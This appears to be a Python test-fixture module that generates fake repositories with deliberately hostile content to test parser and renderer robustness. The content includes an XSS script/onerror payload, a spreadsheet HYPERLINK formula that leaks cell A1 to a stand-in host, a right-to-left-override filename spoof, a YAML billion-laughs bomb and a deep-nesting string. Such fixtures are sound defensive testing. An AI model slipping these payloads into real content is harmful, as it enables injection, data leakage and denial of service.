"""Repositories that break things: texts meant for somebody's browser, spreadsheet, parser or database."""

from collections.abc import Iterator

from pipeline.demo.builder import Plan
from pipeline.demo.files import OTHER_VENDORS_BUTTON
from pipeline.demo.names import OFFICIAL_ORGS, PREFIX
from pipeline.demo.package_files import next_files
from pipeline.demo.render_files import render_yaml, web_and_postgres
from pipeline.demo.stars import CLIMBER, NEWCOMER, STEADY

OWNER = f"{PREFIX}odd-corner"
SCRIPT = (
    '<script>document.title = "taken"</script><img src=x onerror="alert(1)"> A parser of "quoted" & <b>bold</b> text.'
)
FORMULA = '=HYPERLINK("https://example.invalid/?leak="&A1,"Click for the changelog")'
RIGHT_TO_LEFT = "Reads archives such as \u202egpj.exe\u202c and says what is really in them."
EMOJI = "👩‍👩‍👧‍👦 A family of small tools 🏳️‍🌈 for 日本語 and العربية texts, é written in two ways: é and e\u0301 ✨"
LONG = "A parser for everything: " + ", ".join(f"format number {n} with its dialects" for n in range(1, 40)) + "."
NULS = "A service that forgot\x00 to clean its own description."
SURROGATE = "A cache that cut an emoji in half \ud83d and never noticed."
NUL_YAML = "services:\n  - type: web\n    name: nul\x00byte\n    runtime: node\n"
DEEP_YAML = "[" * 100_000


def yaml_bomb() -> str:
    """Nine levels of nine aliases each: a few hundred bytes that ask for a billion nodes."""
    levels = ["a0: &a0 [boom, boom, boom, boom, boom, boom, boom, boom, boom]"]
    levels += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 9)]
    return "\n".join([*levels, "services: *a8", ""])


def hostile_plans() -> Iterator[Plan]:
    """Their plans; each is big and busy enough to be found by the ordinary searches."""
    yield from _hostile_texts()
    yield from _hostile_files()
    yield from _bare()
    yield from _misleading()


def _plan(name: str, language: str | None, description: str | None, size: int) -> Plan:
    return Plan(
        f"{OWNER}/{name}",
        language,
        description,
        age=420,
        size=size,
        pace=CLIMBER,
        topics=("oddities",),
        commits_a_week=4,
    )


def _hostile_texts() -> Iterator[Plan]:
    """Descriptions that mean something to a browser, a spreadsheet, a terminal or an encoder."""
    yield _plan("markup-parser", "Python", SCRIPT, 6400)
    yield _plan("sheet-reader", "Go", FORMULA, 5200)
    for name, text in (("archive-peek", RIGHT_TO_LEFT), ("glyphs.and_marks", EMOJI)):
        plan = _plan(name, "TypeScript", text, 4300)
        plan.files = next_files(name, "^16.0.0")
        yield plan
    yield _plan("every-format", "Python", LONG, 3900)
    yield _plan("nul-service", "Go", NULS, 3300)
    yield _plan("half-emoji-cache", "Python", SURROGATE, 2900)


def _hostile_files() -> Iterator[Plan]:
    """Files that hurt a parser or a database."""
    for name, text in (
        ("nul-blueprint", NUL_YAML),
        ("laughing-blueprint", yaml_bomb()),
        ("bottomless-blueprint", DEEP_YAML),
    ):
        plan = _plan(name, "Python", f"An honest service with a difficult file, the {name.replace('-', ' ')}.", 1700)
        plan.files = {"render.yaml": text}
        plan.readme_parts = ("A zero\x00byte hides here.",) if text is NUL_YAML else ()
        yield plan
    plan = _plan("unparsed-package", "TypeScript", "A site whose package.json is still a template.", 2400)
    plan.files = {"package.json": '{"name": "{{ project }}", "dependencies": {{ dependencies }},\n'}
    yield plan


def _bare() -> Iterator[Plan]:
    """An empty repository, and one about which GitHub knows next to nothing; only their organisation leads to them."""
    empty = Plan(
        f"{OFFICIAL_ORGS[1]}/not-yet-begun", None, "A place kept free for the next example.", age=60, size=3, empty=True
    )
    unknown = Plan(f"{OFFICIAL_ORGS[1]}/bare-bones", None, None, age=900, size=4, never_pushed=True)
    yield from (empty, unknown)


def _misleading() -> Iterator[Plan]:
    """Signs of Render that are none: another vendor's button, a blueprint in a sub-folder, a sponsor's link."""
    plan = _plan("button-for-others", "Python", "A queue viewer that is deployed somewhere else.", 2100)
    plan.readme_parts = (OTHER_VENDORS_BUTTON, "It is like a render.com button, only for another platform.")
    yield plan
    plan = _plan("folder-blueprint", "Go", "A gateway that keeps its blueprint in a sub-folder.", 1900)
    plan.files = {"deploy/render.yaml": render_yaml(web_and_postgres, "folder-blueprint", "Go")}
    yield plan
    plan = _plan("thankful-library", "Python", "A routing library with generous sponsors.", 9800)
    plan.pace = STEADY
    plan.readme_parts = ("Sponsored by [Render](https://docs.render.com/deploy-thankful-library?utm_source=readme).",)
    yield plan


def newcomer_plans(namer_word: Iterator[str]) -> Iterator[Plan]:
    """Projects of the last days before the anchor that climb fast, and some that are born in the weeks after it."""
    things = (
        "A terminal for shared sessions",
        "A tiny search engine",
        "A typed event log",
        "A scratchpad for prompts",
        "A faster linker",
    )
    ends = ("that went around the world in a weekend", "with a waiting list", "written on one long train ride")
    for n, (age, name) in enumerate(zip((2, 3, 5, 8, 11, -2, -5, -9, -14, -20, -27, -35), namer_word, strict=False)):
        language = ("Python", "Go", "TypeScript")[n % 3]
        plan = Plan(
            f"{PREFIX}first-light-{n + 1}/{name}",
            language,
            f"{things[n % 5]} {ends[n % 3]}.",
            age=age,
            size=400 + 350 * (n % 4),
        )
        plan.pace, plan.commits_a_week, plan.topics = NEWCOMER, 26.0, ("new", language.lower())
        plan.files = next_files(name, "^16.2.0") if language == "TypeScript" else {}
        yield plan
